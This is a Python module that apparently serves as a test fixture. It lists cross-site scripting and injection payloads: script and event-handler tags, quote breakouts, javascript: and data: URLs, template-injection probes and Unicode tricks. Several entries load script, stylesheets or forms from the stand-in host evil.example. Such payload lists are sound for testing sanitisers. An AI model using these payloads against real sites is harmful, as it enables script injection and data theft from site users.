"""Texts that pages of other people's sites may contain, made to break out of wherever they are put."""

from __future__ import annotations

_PLAIN = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><img src onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=csrf>",
    "<button formaction=//evil.example>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</li></ol></main><script>alert(1)</script>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div data-hx-on:load='alert(1)'>",
    "<div data-chart='{}'>",
]
_QUOTES = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    "`\"'><img src=x onerror=alert(1)>",
    "\"' hx-get=//evil.example hx-trigger=load x=\"'",
]
_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    'https://evil.example/" onclick="alert(1)',
    "https://evil.example/'onclick='alert(1)",
]
_TEMPLATES = ["{{ 7 * 7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}", "${7*7}", "#{7*7}"]
_SIGNS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202etxt.exe\u202c<script>",
    "\x1b[31m<b>red</b>",
    "＜script＞alert(1)",
]

PAYLOADS = [*_PLAIN, *_QUOTES, *_SCHEMES, *_TEMPLATES, *_SIGNS]
